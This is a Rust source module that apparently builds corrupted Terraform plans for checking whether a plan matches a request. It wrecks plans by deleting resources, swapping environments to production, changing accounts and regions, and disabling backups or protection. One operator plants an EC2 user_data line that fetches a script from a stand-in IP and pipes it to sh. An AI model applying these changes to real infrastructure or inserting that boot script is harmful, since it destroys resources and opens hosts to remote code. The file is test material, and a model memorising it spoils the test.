//! Operators that do what was asked to something else, somewhere else, in another number or size,
//! or not wholly.

use serde_json::{Value, json};

use super::{
    Document,
    document::{Object, after, before, text},
    operators::{Ground, Harm, Operator, hard, soft},
};

pub(super) const OPERATORS: [Operator; 19] = [
    hard("update-to-replace", Harm::Delete, replaces),
    hard("unchanged-deleted", Harm::Delete, deletes_unchanged),
    hard("other-one-deleted", Harm::Delete, deletes_other),
    hard("other-one-updated", Harm::Other, updates_other),
    hard("environment-swapped", Harm::Other, environment),
    hard("environment-tag-swapped", Harm::Other, environment_tag),
    hard("region-swapped", Harm::Other, region),
    hard("account-swapped", Harm::Iam, account),
    hard("aspect-besides", Harm::Other, aspect_besides),
    hard("boot-script-changed", Harm::Other, boot_script),
    soft("wrong-name", wrong_name),
    soft("item-dropped", dropped),
    soft("count-trebled", trebled),
    soft("amount-tenfold", tenfold),
    soft("oversized", oversized),
    soft("new-amount-missed", missed_amount),
    soft("wrong-direction", wrong_direction),
    soft("one-of-many-dropped", one_of_many),
    soft("size-not-reached", size_kept),
];

/// Attributes that name an object.
const NAMES: [&str; 16] = [
    "name",
    "bucket",
    "identifier",
    "cluster_identifier",
    "function_name",
    "alarm_name",
    "family",
    "replication_group_id",
    "creation_token",
    "user_name",
    "domain_name",
    "dashboard_name",
    "display_name",
    "queue_name",
    "cluster_name",
    "table_name",
];

/// What an object is called, longest first.
pub(super) fn names(ground: &Ground<'_>, address: &str) -> Vec<String> {
    let Some(change) = ground.plan.change(address) else {
        return vec![];
    };
    let side = change.pointer("/change/after").filter(|after| after.is_object());
    let Some(side) = side.or_else(|| change.pointer("/change/before")) else {
        return vec![];
    };
    let mut names: Vec<String> =
        NAMES.iter().filter_map(|key| side.get(key)?.as_str().map(str::to_owned)).collect();
    names.extend(side.pointer("/tags/Name").and_then(Value::as_str).map(str::to_owned));
    names.retain(|name| name.len() > 3);
    names.sort_by_key(|name| core::cmp::Reverse(name.len()));
    names
}

/// One text for another wherever it stands in an object.
pub(super) fn rename(object: &mut Object, from: &str, to: &str) {
    object.values_mut().for_each(|value| substitute(value, from, to));
}

fn substitute(value: &mut Value, from: &str, to: &str) {
    match value {
        Value::String(text) => *text = text.replace(from, to),
        Value::Array(list) => list.iter_mut().for_each(|one| substitute(one, from, to)),
        Value::Object(object) => rename(object, from, to),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Types that commonly come along with another and bear its name: without one of them the thing
/// itself is still there.
const ALONG: [&str; 22] = [
    "aws_iam_role",
    "aws_iam_role_policy",
    "aws_iam_role_policy_attachment",
    "aws_iam_policy",
    "aws_iam_instance_profile",
    "aws_cloudwatch_log_group",
    "aws_security_group",
    "aws_db_subnet_group",
    "aws_elasticache_subnet_group",
    "aws_lb_target_group",
    "aws_lb_listener",
    "aws_ecs_task_definition",
    "aws_ecs_cluster",
    "aws_s3_bucket_versioning",
    "aws_s3_bucket_lifecycle_configuration",
    "aws_s3_bucket_public_access_block",
    "aws_s3_bucket_server_side_encryption_configuration",
    "aws_ecr_lifecycle_policy",
    "aws_cloudwatch_event_rule",
    "aws_lambda_permission",
    "aws_route_table",
    "aws_cloudfront_origin_access_control",
];

/// Whether an object is what was asked for and not what comes along with it.
pub(super) fn is_itself(ground: &Ground<'_>, address: &str) -> bool {
    ground.plan.change(address).is_some_and(|change| !ALONG.contains(&text(change, "type")))
}

fn replaces(ground: &Ground<'_>) -> Option<Document> {
    if ["replace", "recreate", "rebuild"].iter().any(|word| ground.says(word)) {
        return None;
    }
    let address = ground.plan.with_acts(&["update"]).into_iter().next()?;
    let mut plan = ground.plan.clone();
    plan.act(&address, &["delete", "create"])?;
    Some(plan)
}

fn deletes_unchanged(ground: &Ground<'_>) -> Option<Document> {
    let address = ground.plan.with_acts(&["no-op"]).into_iter().next()?;
    let mut plan = ground.plan.clone();
    plan.act(&address, &["delete"])?;
    let change = plan.changes_mut()?.iter_mut().find(|one| text(one, "address") == address)?;
    *change.pointer_mut("/change/after")? = Value::Null;
    Some(plan)
}

/// An object that bears another name than the one in the words, on both sides of the change.
fn other(ground: &Ground<'_>, acts: &[&str]) -> Option<Document> {
    let mut plan = ground.plan.clone();
    let mut found = false;
    for address in ground.plan.with_acts(acts) {
        let names = names(ground, &address);
        let Some(name) = names.iter().find(|name| ground.says(name)) else {
            continue;
        };
        let other = other_name(name);
        found = true;
        plan.edit_before(&address, |before| rename(before, name, &other));
        plan.edit(&address, |after| rename(after, name, &other));
    }
    found.then_some(plan)
}

/// Another name of the same make: the last part is another.
fn other_name(name: &str) -> String {
    let at = name.rfind(['-', '_', '/', '.']);
    let kept = at.and_then(|at| name.get(..=at)).unwrap_or_default();
    format!("{kept}ledger")
}

fn deletes_other(ground: &Ground<'_>) -> Option<Document> {
    other(ground, &["delete"])
}

fn updates_other(ground: &Ground<'_>) -> Option<Document> {
    other(ground, &["update"])
}

/// Environments as requests and objects name them.
const ENVIRONMENTS: [(&str, &str); 4] =
    [("staging", "production"), ("dev", "production"), ("production", "uat"), ("prod", "uat")];

/// The environment that the words name; the plan must only create.
fn named_environment(
    ground: &Ground<'_>,
    says: fn(&Ground<'_>, &str) -> bool,
) -> Option<(&'static str, &'static str)> {
    let creates = ground.plan.with_acts(&["create"]).len();
    let only_creates = creates > 0 && creates == ground.plan.effective().len();
    let said = ENVIRONMENTS.iter().find(|(name, _)| says(ground, name));
    said.filter(|_| only_creates).copied()
}

fn environment(ground: &Ground<'_>) -> Option<Document> {
    let (from, to) = named_environment(ground, |ground, name| ground.says_part(name))?;
    let mut plan = ground.plan.clone();
    for address in ground.plan.effective() {
        // What does not name its environment stays as it is.
        let _unchanged = plan.edit(&address, |after| {
            for (name, _) in ENVIRONMENTS.iter().filter(|(name, _)| name.starts_with(from)) {
                rename(after, name, to);
            }
            rename(after, from, to);
        });
    }
    Some(plan)
}

fn environment_tag(ground: &Ground<'_>) -> Option<Document> {
    let (_, to) = named_environment(ground, |ground, name| ground.says_alone(name))?;
    let mut plan = ground.plan.clone();
    for address in ground.plan.effective() {
        let _untagged = plan.edit(&address, |after| {
            for key in ["tags", "tags_all", "labels"] {
                let tags = after.get_mut(key).and_then(Value::as_object_mut);
                let slot = tags.and_then(|tags| {
                    tags.iter_mut().find(|(key, _)| key.eq_ignore_ascii_case("environment"))
                });
                if let Some((_, value)) = slot {
                    *value = json!(to);
                }
            }
        });
    }
    Some(plan)
}

/// Regions as requests name them.
const REGIONS: [(&str, &str); 10] = [
    ("eu-central-1", "frankfurt"),
    ("eu-west-1", "ireland"),
    ("eu-west-2", "london"),
    ("us-west-2", "oregon"),
    ("us-east-2", "ohio"),
    ("eu-north-1", "stockholm"),
    ("westeurope", "west europe"),
    ("northeurope", "north europe"),
    ("europe-west1", "belgium"),
    ("europe-west3", "frankfurt"),
];

fn region(ground: &Ground<'_>) -> Option<Document> {
    let text = ground.plan.json().to_string();
    let is_named = |(code, city): &&(&str, &str)| {
        text.contains(code) && (ground.says(code) || ground.says(city))
    };
    let (code, _) = REGIONS.iter().find(is_named)?;
    let other = match ground.base.provider.as_str() {
        "azurerm" => "eastus",
        "google" => "us-central1",
        _ => "ap-southeast-2",
    };
    let moved = text.replace(code, other);
    Some(Document::new(serde_json::from_str(&moved).ok()?))
}

fn account(ground: &Ground<'_>) -> Option<Document> {
    let mut numbers = ground.base.request.split(|c: char| !c.is_ascii_digit());
    let named = numbers.find(|number| number.len() == 12)?;
    let mut plan = ground.plan.clone();
    for address in ground.plan.effective() {
        let _elsewhere = plan.edit(&address, |after| rename(after, named, "999988887777"));
    }
    Some(plan)
}

/// Something else about the same object changes besides, which the words do not speak of.
fn aspect_besides(ground: &Ground<'_>) -> Option<Document> {
    let besides: [(&str, Value, &[&str]); 7] = [
        ("backup_retention_period", json!(0), &["backup", "retention"]),
        ("deletion_protection", json!(false), &["protect"]),
        ("iam_database_authentication_enabled", json!(true), &["iam", "auth"]),
        ("timeout", json!(899), &["timeout", "second"]),
        ("reserved_concurrent_executions", json!(0), &["concurren"]),
        ("enable_execute_command", json!(true), &["exec", "command"]),
        ("visibility_timeout_seconds", json!(43_200), &["visib", "timeout"]),
    ];
    let updates = ground.plan.with_acts(&["update"]);
    let found = updates.iter().find_map(|address| {
        let change = ground.plan.change(address)?;
        let fits = |(key, value, words): &&(&str, Value, &[&str])| {
            let same = before(change, key) == after(change, key);
            let held = before(change, key);
            let differs = held.is_some_and(|held| held != value);
            same && differs && !words.iter().any(|word| ground.says(word))
        };
        besides.iter().find(fits).map(|found| (address, found))
    });
    let (address, (key, value, _)) = found?;
    let mut plan = ground.plan.clone();
    plan.edit(address, |after| {
        after.insert((*key).to_owned(), value.clone());
    })?;
    Some(plan)
}

fn boot_script(ground: &Ground<'_>) -> Option<Document> {
    if ["user data", "user_data", "script", "boot"].iter().any(|word| ground.says(word)) {
        return None;
    }
    let mut updates = ground.plan.with_acts(&["update"]).into_iter();
    let address = updates.find(|address| address.contains("aws_instance."))?;
    let mut plan = ground.plan.clone();
    plan.edit(&address, |after| {
        after.insert("user_data".to_owned(), json!("#!/bin/sh\ncurl -s http://203.0.113.9/a|sh\n"));
    })?;
    Some(plan)
}

fn wrong_name(ground: &Ground<'_>) -> Option<Document> {
    let mut plan = ground.plan.clone();
    let creates = ground.plan.with_acts(&["create"]);
    let named = creates.iter().find_map(|address| {
        let names = names(ground, address);
        names.into_iter().find(|name| ground.says(name))
    })?;
    let other = other_name(&named);
    for address in &creates {
        let _unnamed = plan.edit(address, |after| rename(after, &named, &other));
    }
    Some(plan)
}

/// The first thing that the words name, where something else is left to do.
fn dropped(ground: &Ground<'_>) -> Option<Document> {
    let effective = ground.plan.effective();
    let bare = |address: &String| super::document::bare(address).to_owned();
    let named = effective.iter().find(|address| {
        names(ground, address).iter().any(|name| ground.says(name))
            && is_itself(ground, address)
            && effective.iter().filter(|other| bare(other) == bare(address)).count() == 1
    })?;
    let mut plan = ground.plan.clone();
    plan.drop_change(named)?;
    (!plan.effective().is_empty()).then_some(plan)
}

/// Instances of one resource, where there are several.
fn many(ground: &Ground<'_>) -> Option<Vec<String>> {
    let creates = ground.plan.effective();
    let of = |address: &str| {
        let bare = super::document::bare(address).to_owned();
        let same = |other: &&String| super::document::bare(other) == bare;
        let all: Vec<String> = creates.iter().filter(same).cloned().collect();
        (all.len() > 1 && bare != address).then_some(all)
    };
    creates.iter().find_map(|address| of(address))
}

fn trebled(ground: &Ground<'_>) -> Option<Document> {
    let all = many(ground)?;
    let last = all.last()?;
    if !last.ends_with(']')
        || last.ends_with("\"]")
        || ground.plan.with_acts(&["create"]).is_empty()
    {
        return None;
    }
    let bare = super::document::bare(last);
    let mut plan = ground.plan.clone();
    for number in all.len()..all.len().saturating_mul(3) {
        let address = format!("{bare}[{number}]");
        plan.adopt_as(ground.plan, last, &address)?;
        let old = format!("-{}", all.len().saturating_sub(1));
        // Where nothing bears a number, nothing needs another.
        let _unnumbered = plan.edit(&address, |after| rename(after, &old, &format!("-{number}")));
    }
    Some(plan)
}

/// One of several is left out that the words name or count.
fn one_of_many(ground: &Ground<'_>) -> Option<Document> {
    let all = many(ground)?;
    let last = all.last()?;
    let is_named = names(ground, last).iter().any(|name| ground.says(name));
    let is_counted = u64::try_from(all.len()).is_ok_and(|count| ground.says_count(count));
    if !is_named && !is_counted {
        return None;
    }
    let mut plan = ground.plan.clone();
    plan.drop_change(last)?;
    Some(plan)
}

/// An amount that stands in the words and in the plan, in an attribute of one of the objects.
fn said_amount(ground: &Ground<'_>) -> Option<(String, String, u64)> {
    const AMOUNTS: [&str; 18] = [
        "allocated_storage",
        "size",
        "retention_in_days",
        "memory_size",
        "timeout",
        "threshold",
        "desired_count",
        "desired_capacity",
        "max_size",
        "min_size",
        "shard_count",
        "volume_size",
        "backup_retention_period",
        "message_retention_seconds",
        "memory",
        "iops",
        "ttl",
        "disk_size_gb",
    ];
    ground.plan.effective().into_iter().find_map(|address| {
        let change = ground.plan.change(&address)?;
        AMOUNTS.iter().find_map(|key| {
            let value = after(change, key)?.as_u64()?;
            let set = before(change, key) != Some(&json!(value));
            (set && value > 1 && ground.says_number(value))
                .then(|| (address.clone(), (*key).to_owned(), value))
        })
    })
}

fn tenfold(ground: &Ground<'_>) -> Option<Document> {
    let (address, key, value) = said_amount(ground)?;
    let mut plan = ground.plan.clone();
    plan.edit(&address, |after| {
        after.insert(key.clone(), json!(value.saturating_mul(10)));
    })?;
    Some(plan)
}

/// The amount of an update that the words give, set to something near it.
fn missed_amount(ground: &Ground<'_>) -> Option<Document> {
    let (address, key, value) = said_amount(ground)?;
    let was = before(ground.plan.change(&address)?, &key)?.as_u64()?;
    let near = if was < value { value.saturating_sub(1) } else { value.saturating_add(1) };
    if near == was {
        return None;
    }
    let mut plan = ground.plan.clone();
    plan.edit(&address, |after| {
        after.insert(key.clone(), json!(near));
    })?;
    Some(plan)
}

/// The amount of an update goes the other way.
fn wrong_direction(ground: &Ground<'_>) -> Option<Document> {
    let (address, key, value) = said_amount(ground)?;
    let was = before(ground.plan.change(&address)?, &key)?.as_u64()?;
    let other = if was < value { was.div_euclid(2) } else { was.saturating_mul(2) };
    let mut plan = ground.plan.clone();
    plan.edit(&address, |after| {
        after.insert(key.clone(), json!(other));
    })?;
    Some(plan)
}

const SIZES: [&str; 7] =
    ["instance_type", "instance_class", "node_type", "vm_size", "machine_type", "tier", "sku_name"];

/// A size that stands in the words and is set by the plan.
fn said_size(ground: &Ground<'_>) -> Option<(String, &'static str, String)> {
    ground.plan.effective().into_iter().find_map(|address| {
        let change = ground.plan.change(&address)?;
        SIZES.iter().find_map(|key| {
            let size = after(change, key)?.as_str()?;
            let set = before(change, key) != after(change, key);
            (set && ground.says(size)).then(|| (address.clone(), *key, size.to_owned()))
        })
    })
}

fn oversized(ground: &Ground<'_>) -> Option<Document> {
    let (address, key, size) = said_size(ground)?;
    let (kept, _) = size.rsplit_once(['.', '-', '_'])?;
    let large = match size.rsplit_once('.') {
        Some(_) => format!("{kept}.16xlarge"),
        None => format!("{kept}-64"),
    };
    let mut plan = ground.plan.clone();
    plan.edit(&address, |after| {
        after.insert(key.to_owned(), json!(large));
    })?;
    Some(plan)
}

/// An update that gives another size of the same family than the one asked for.
fn size_kept(ground: &Ground<'_>) -> Option<Document> {
    let (address, key, size) = said_size(ground)?;
    before(ground.plan.change(&address)?, key)?.as_str()?;
    let (kept, last) = size.rsplit_once('.')?;
    let other = if last == "2xlarge" { "4xlarge" } else { "2xlarge" };
    let mut plan = ground.plan.clone();
    plan.edit(&address, |after| {
        after.insert(key.to_owned(), json!(format!("{kept}.{other}")));
    })?;
    Some(plan)
}
